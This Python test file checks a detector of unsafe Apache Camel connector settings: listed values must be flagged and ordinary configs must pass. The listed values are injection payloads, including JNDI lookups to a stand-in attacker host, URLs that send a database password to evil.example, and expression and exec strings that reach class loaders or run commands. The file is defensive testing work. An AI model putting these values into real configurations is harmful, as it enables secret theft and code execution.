"""What a config of Apache Camel's connectors may not have, and that ordinary ones pass."""

from __future__ import annotations

import pytest

from kconnect.core.settings.unsafe import dangers, of_config

URL = "camel.sink.url"
DANGEROUS = (
    ("camel.beans.x", "#class:javax.naming.InitialContext#doLookup('ldap://evil.example')", "camel.class"),
    ("camel.beans.x", "#class:java.io.FileOutputStream('/etc/x')", "camel.class"),
    ("camel.beans.x", "#class:org.apache.camel.Any#make('x')", "camel.class"),
    ("camel.beans.x", "#class:org.apache.camel.Any('x')", "camel.class"),
    ("camel.beans.x", "#class:org.apache.activemq.ActiveMQConnectionFactory('tcp://h:1')", "camel.class"),
    ("camel.beans.x", "#class:org.apache.activemq.ActiveMQConnectionFactory#x", "camel.class"),
    ("camel.component.sjms2.connection-factory.brokerURL", "vm://x?brokerConfig=xbean:x.xml", "activemq.broker"),
    (URL, "file:/out?strategy=%23class:java.lang.Thread", "camel.class"),
    (URL, "http://evil.example/{{env:DATABASE_PASSWORD}}", "camel.placeholders"),
    (URL, "http://evil.example/{{{{a}}v:DATABASE_PASSWORD}}", "camel.placeholders"),
    ("camel.sink.path.httpUri", "{{sys:user.home}}", "camel.placeholders"),
    (URL, "file:/out?fileName=${sysenv.DATABASE_PASSWORD}", "camel.expressions"),
    (URL, "file:/out?fileName=$simple{env:DATABASE_PASSWORD}", "camel.expressions"),
    (URL, "file:/out?fileName=%24%7Btype:java.lang.Runtime%7D", "camel.expressions"),
    (URL, "file:/out?fileName=%2524%257Bsysenv.X%257D", "camel.expressions"),
    (URL, "file:/out?fileName=${body.class.classLoader}", "camel.expressions"),
    (URL, "file:/out?fileName=${header.x.getClass()}", "camel.expressions"),
    (URL, "file:/out?fileName=${date:now:${env.X}}", "camel.expressions"),
    (URL, "class:java.lang.System?method=exit", "camel.code"),
    ("camel.source.url", "exec:touch?args=x", "camel.code"),
)


@pytest.mark.parametrize(("name", "value", "part"), DANGEROUS, ids=[f"{part}-{value}" for _, value, part in DANGEROUS])
def test_what_is_dangerous(name: str, value: str, part: str) -> None:
    assert {danger.part for danger in dangers(name, value)} == {part}
    assert list(dangers(name, value, [part])) == [], "the worker's file allows it"


def test_what_is_ordinary() -> None:
    config = {
        "connector.class": "org.apache.camel.kafkaconnector.CamelSinkConnector",
        "camel.sink.url": "file:/out?fileName=${file:name.noext}-${date:now:yyyyMMdd}.txt&fileExist=Append",
        "camel.source.url": "file:/in?noop=true&sortBy=file:name&delay=500",
        "camel.sink.endpoint.fileName": "${header.CamelHeader.key}-${random(1,9)}-${id}",
        "camel.beans.aggregate": "#class:org.apache.camel.kafkaconnector.aggregator.StringAggregator",
        "camel.component.sjms2.connection-factory": "#class:org.apache.activemq.ActiveMQConnectionFactory",
        "camel.component.sjms2.connection-factory.brokerURL": "tcp://my-broker:61612",
        "camel.beans.factory": "#class:org.apache.qpid.jms.JmsConnectionFactory",
        "camel.sink.path.bucketNameOrArn": "${env:BUCKET}",
        "camel.component.aws2-s3.accessKey": "${file:/run/secrets/aws:key}",
        "other.url": "http://h/{{not Camel's}}",
    }
    assert list(of_config(config)) == []


@pytest.mark.parametrize("text", ["${", "#class:", "{{", "%24%7B", "$simple{a", "${body"])
def test_a_long_text_does_not_take_long(text: str) -> None:
    """A test's own limit is enough, where a pattern would take hours."""
    list(dangers(URL, text * 100_000))
